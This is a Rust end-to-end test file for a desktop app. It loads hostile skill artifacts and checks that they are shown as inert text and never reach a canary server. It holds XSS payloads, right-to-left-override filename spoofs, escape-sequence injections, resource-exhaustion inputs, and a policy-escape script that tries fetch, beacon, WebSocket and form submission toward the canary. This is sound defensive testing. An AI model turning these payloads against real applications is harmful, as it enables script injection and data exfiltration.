//! Artifacts that mean harm, in the real window: their text is shown, and does nothing.

use crate::scene::{copy_of, open, plan_into, row_with, select, with_projects};
use serde_json::Value;
use skillmeat_tests::desktop::{Canary, Desktop, Window, wait_until};
use skillmeat_tests::{Node, Sandbox, files_that_hold, repository};

/// What the fixtures ask; replaced by the address of a server that must never hear of it.
const PLACEHOLDER: &str = "@CANARY@";
/// In the text of the fixtures that are deployed, edited and compared, and in a property.
const SECRET: &str = "canary-text-7Qx2";
/// The name reads `photoexe.jpg` where the mark of direction is obeyed.
const BACKWARDS: &str = "photo\u{202e}gpj.exe";
const NAMED: &str = "photo[U+202E]gpj.exe";

/// Set in the page; a navigation would lose it. Counts what the policy had to stop, and boxes.
const WATCH: &str = "window.stopped = []; window.boxes = 0; window.here = location.href;\
    addEventListener('securitypolicyviolation', (event) => window.stopped.push(event.violatedDirective));\
    for (const box of ['alert', 'confirm', 'prompt', 'print']) window[box] = () => { window.boxes += 1; };\
    return true;";

/// What the page says about itself: all of it must be as it was.
const STATE: &str = "return {\
    pwned: window.pwned ?? null, polluted: ({}).pwned ?? null, boxes: window.boxes, stopped: window.stopped,\
    title: document.title, moved: location.href !== window.here, frames: window.length,\
    global: typeof window.__TAURI__,\
    hidden: [...document.body.innerText].filter((c) => /[\\u0000-\\u0008\\u000b\\u000c\\u000e-\\u001f\\u007f-\\u009f\\u202a-\\u202e\\u2066-\\u2069]/.test(c)).length,\
    foreign: arguments[0].flatMap((pane) => [...pane.querySelectorAll(\
      'script,style,link,meta,base,iframe,object,embed,form,img,video,audio,math,template,marquee,[style*=url],[href],[src]')])\
      .map((e) => e.outerHTML),\
    handlers: arguments[0].flatMap((pane) => [...pane.querySelectorAll('*')])\
      .flatMap((e) => e.getAttributeNames().filter((name) => name.startsWith('on'))),\
  };";

/// Whether the name's letters stand from left to right as they are written.
const ORDER: &str = "const walk = document.createTreeWalker(arguments[0][0], NodeFilter.SHOW_TEXT);\
    let text; while ((text = walk.nextNode()) && !text.data.includes('gpj.exe'));\
    const at = text.data.indexOf('gpj.exe');\
    const left = (from) => { const range = document.createRange();\
      range.setStart(text, from); range.setEnd(text, from + 1); return range.getBoundingClientRect().left; };\
    return [0, 1, 2, 3, 4, 5].every((i) => left(at + i) < left(at + i + 1));";

/// Does with everything that an artifact's text made what a person, or a page, could do.
const TOUCH: &str = "for (const pane of arguments[0]) for (const e of pane.querySelectorAll('*'))\
    for (const name of ['pointerover', 'mouseover', 'focus', 'load', 'error', 'toggle', 'click', 'auxclick'])\
      e.dispatchEvent(new MouseEvent(name, { bubbles: true, cancelable: true, button: name === 'auxclick' ? 1 : 0 }));\
    return true;";

fn fill(sandbox: &Sandbox, canary: &Canary) {
    let fixtures = repository().join("tests/fixtures/hostile-content");
    for entry in walkdir::WalkDir::new(&fixtures).min_depth(2).into_iter().map(Result::unwrap) {
        if entry.file_type().is_file() {
            let text = std::fs::read_to_string(entry.path()).unwrap().replace(PLACEHOLDER, &canary.address());
            Node::from(text).put(&sandbox.collection().join(entry.path().strip_prefix(&fixtures).unwrap()));
        }
    }
    let skills = sandbox.collection().join("skills");
    let put = |path: &str, text: String| Node::from(text).put(&skills.join(path));
    let spoof = format!(
        "---\nname: \"{BACKWARDS}\"\ntitle: \"\\u202egnp.\\e[2Jtitle\"\ndescription: \"\\a\\u2066one\\u2069 \\U000E0041 \\u0085two\"\n\
         tags: [\"\\u202etag\", \"a\\u200bb\"]\n---\nText \u{202e}sdrawkcab\u{202c} and \u{1b}[31mred\u{7}.\n"
    );
    put(&format!("{BACKWARDS}/SKILL.md"), spoof);
    put(&format!("{BACKWARDS}/notes\u{202e}dm.exe"), "\u{202e}reverof\n".to_owned());
    put(&format!("{BACKWARDS}/<img src=x onerror=pwned='file'>\u{1b}.md"), "A name is markup.\n".to_owned());
    let front = |name: &str| format!("---\nname: {name}\ndescription: Large.\n---\n");
    put("huge-line/SKILL.md", front("huge-line") + &"<b>x</b>".repeat(5 * 1024 * 1024 / 8));
    put(
        "huge-text/SKILL.md",
        front("huge-text") + &"# A *b* `c` [d](e) <f>\n\n- g\n".repeat(5 * 1024 * 1024 / 27),
    );
    let deep = [">", "- ", "[", "**", "![", "<a>"].map(|mark| mark.repeat(20_000)).join("\n\n");
    put("deep/SKILL.md", front("deep") + &deep);
}

#[track_caller]
fn assert_harmless(window: &Window<'_>, place: &str) {
    let state = window.script(STATE, "main, [data-testid=\"inspector\"] [role=\"tabpanel\"]");
    let want = serde_json::json!({
        "pwned": null, "polluted": null, "boxes": 0, "stopped": [], "title": "SkillMeat", "moved": false, "frames": 0,
        "global": "undefined", "hidden": 0, "foreign": [], "handlers": [],
    });
    assert_eq!(state, want, "{place}");
}

/// Looks at an artifact from every side.
#[track_caller]
fn look_at(window: &Window<'_>, artifact: &str) {
    select(window, artifact);
    window.click(&Window::id("inspector-tab-overview"));
    window.wait_shown(&Window::id("body"));
    assert_harmless(window, &format!("{artifact}, overview"));
    window.script(TOUCH, &Window::id("body"));
    if window.is_shown(&Window::id("link-dialog")) {
        window.press("Escape");
        window.wait_gone(&Window::id("link-dialog"));
    }
    assert_harmless(window, &format!("{artifact}, touched"));
    window.click(&Window::id("inspector-tab-files"));
    window.wait_shown(&Window::id("file-viewer"));
    for file in window.attributes(&Window::id("file"), "data-path") {
        let nth = format!(
            "arguments[0].find((e) => e.dataset.path === {}).click(); return true;",
            Value::from(file.as_str())
        );
        window.script(&nth, &Window::id("file"));
        wait_until(&file, || window.is_shown(&format!("{} pre", Window::id("file-viewer"))));
        assert_harmless(window, &format!("{artifact}, {file}"));
    }
}

fn deploy_and_resync(window: &Window<'_>, project: &str) {
    select(window, "skill:remote");
    plan_into(window, project);
    window.click(&Window::id("confirm"));
    window.wait_shown(&row_with("skill:remote", "synced"));
    window.wait_gone(&Window::id("deploy-dialog"));
    window.click(&Window::id("resync"));
    window.wait_text(&Window::id("live"), "up to date");
}

/// The log, at its most talkative, what the app printed, the cache, and what the web view keeps of its own: none of it
/// repeats an artifact's text.
#[track_caller]
fn assert_nothing_is_kept(sandbox: &Sandbox) {
    let logs = sandbox.home().join("desktop/logs");
    assert_ne!(files_that_hold(&["skillmeat"], &logs, &[]), Vec::<String>::new(), "there is a log");
    let content = [
        "projects",
        "person/.skillmeat/collections",
        "person/.skillmeat/desktop/trash",
        "person/.skillmeat/desktop/objects",
    ];
    assert_eq!(files_that_hold(&[SECRET], sandbox.path(), &content), Vec::<String>::new());
}

fn ids(window: &Window<'_>) -> Vec<String> {
    window.attributes(&Window::id("artifact-row"), "data-id")
}

#[test]
fn hostile_artifacts_are_shown_and_do_nothing() {
    let canary = Canary::start();
    let sandbox = with_projects(&["api"]);
    fill(&sandbox, &canary);
    let project = sandbox.project_text("api");
    for name in ["markup", "attachments"] {
        sandbox.skm(["deploy", name, "--project", &project]).ok();
        let edit = std::fs::read_to_string(copy_of(&sandbox, "api", "markup").join("SKILL.md")).unwrap();
        let edit =
            edit.replace("Markup", "<script>window.pwned='diff'</script><img src=x onerror=pwned='diff'>");
        Node::from(edit).put(&copy_of(&sandbox, "api", name).join("SKILL.md"));
    }
    let desktop = Desktop::start(&sandbox);
    let window = open(&desktop);
    window.script(WATCH, "html");
    let spoof = format!("skill:{BACKWARDS}");
    let wanted = [
        "skill:markup",
        "skill:addresses",
        "skill:remote",
        "skill:attachments",
        "skill:huge-line",
        "skill:huge-text",
        "skill:deep",
        "command:properties",
        "agent:unclosed",
        &spoof,
    ];
    wait_until("every artifact in the list", || {
        wanted.iter().all(|id| ids(&window).iter().any(|known| known == id))
    });
    window.wait_text(&Window::row(&spoof), NAMED);
    assert_eq!(window.script(ORDER, &Window::row(&spoof)), true, "the name is drawn as it is written");
    window.screenshot("hostile-list");
    assert_harmless(&window, "the list");
    for artifact in wanted {
        look_at(&window, artifact);
        window.screenshot(&format!("hostile-{}", artifact.split(':').next_back().unwrap_or(artifact)));
    }
    for artifact in ["skill:markup", "skill:attachments"] {
        select(&window, artifact);
        window.click(&Window::id("inspector-tab-diff"));
        window.wait_text(&Window::id("diff"), "window.pwned='diff'");
        assert_harmless(&window, &format!("{artifact}, diff"));
    }
    window.screenshot("hostile-diff");
    assert_eq!(canary.heard(), Vec::<String>::new(), "nothing of this is asked for");
    assert_eq!(desktop.opened(), Vec::<String>::new(), "nothing is opened unasked");
    deploy_and_resync(&window, &project);
    window.close();
    assert_nothing_is_kept(&sandbox);
}

/// What a script would try that ran in spite of all: the policy of the page stops every bit of it.
const BREAK_OUT: &str = "const done = arguments[arguments.length - 1]; const to = 'http://@CANARY@/';\
    const stopped = []; addEventListener('securitypolicyviolation', (event) => stopped.push(event.effectiveDirective));\
    const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));\
    add('script', { textContent: \"window.pwned = 'inline'\" }); add('script', { src: to + 'script' });\
    add('img', { src: to + 'img' }); add('iframe', { src: to + 'frame' }); add('object', { data: to + 'object' });\
    add('iframe', { srcdoc: \"<script>parent.pwned = 'srcdoc'</script>\" });\
    add('link', { rel: 'stylesheet', href: to + 'sheet' }); add('video', { src: to + 'video' });\
    add('style', { textContent: '@font-face { font-family: far; src: url(' + to + 'font) } body { font-family: far }' });\
    add('form', { action: to + 'form', method: 'post' }); document.body.lastChild.submit();\
    add('base', { href: to + 'base' }); add('div', { innerHTML: \"<img src=x onerror=window.pwned='handler'>\" });\
    try { eval(\"window.pwned = 'eval'\"); } catch { stopped.push('eval'); }\
    try { new WebSocket('ws://@CANARY@/socket'); } catch { stopped.push('socket'); }\
    try { navigator.sendBeacon(to + 'beacon', 'x'); } catch { stopped.push('beacon'); }\
    try { new Worker(to + 'worker'); } catch { stopped.push('worker'); }\
    open(to + 'window'); location.assign(to + 'navigated');\
    Promise.allSettled([fetch(to + 'fetch'), import(to + 'module')]).then((answers) => setTimeout(() => done({\
      refused: answers.every((answer) => answer.status === 'rejected'), pwned: window.pwned ?? null,\
      here: location.protocol, stopped: [...new Set(stopped)].sort() }), 0));";

#[test]
fn a_link_opens_outside_once_agreed_to_and_the_page_itself_reaches_nothing() {
    let canary = Canary::start();
    let sandbox = with_projects(&["api"]);
    fill(&sandbox, &canary);
    let desktop = Desktop::start(&sandbox);
    let window = open(&desktop);
    window.resize(700, 500);
    select(&window, "skill:addresses");
    let address = format!("http://{}/read?a=b#c", canary.address());
    let link = format!("{} a[role=\"link\"][title=\"{address}\"]", Window::id("body"));
    for way in ["Escape", "agree"] {
        window.wait_shown(&link);
        window.script("arguments[0][0].scrollIntoView({ block: 'center' }); return true;", &link);
        window.click(&link);
        assert_eq!(window.text(&Window::id("link-address")), address);
        assert_eq!(desktop.opened(), Vec::<String>::new());
        window.screenshot("link");
        if way == "Escape" {
            window.press("Escape");
        } else {
            window.click(&format!("{} {}", Window::id("link-dialog"), Window::id("confirm")));
        }
        window.wait_gone(&Window::id("link-dialog"));
    }
    wait_until("the browser to be asked", || desktop.opened() == [address.clone()]);
    let links = window.attributes(&format!("{} a[role=\"link\"]", Window::id("body")), "title");
    assert!(links.iter().all(|link| link.starts_with("http") && !link.contains('@')), "{links:?}");
    assert_eq!(canary.heard(), Vec::<String>::new(), "the window itself asks for nothing");

    let ran = window.script_async(&BREAK_OUT.replace(PLACEHOLDER, &canary.address()));
    assert_eq!(
        (&ran["pwned"], &ran["refused"], &ran["here"]),
        (&Value::Null, &Value::Bool(true), &"tauri:".into()),
        "{ran}"
    );
    for stopped in ["connect-src", "img-src", "script-src-elem", "eval"] {
        let known = ran["stopped"].as_array().is_some_and(|all| all.iter().any(|one| one == stopped));
        assert!(known, "{stopped} in {ran}");
    }
    assert_eq!(canary.heard(), Vec::<String>::new(), "no way out");
    window.wait_state("ready");
}
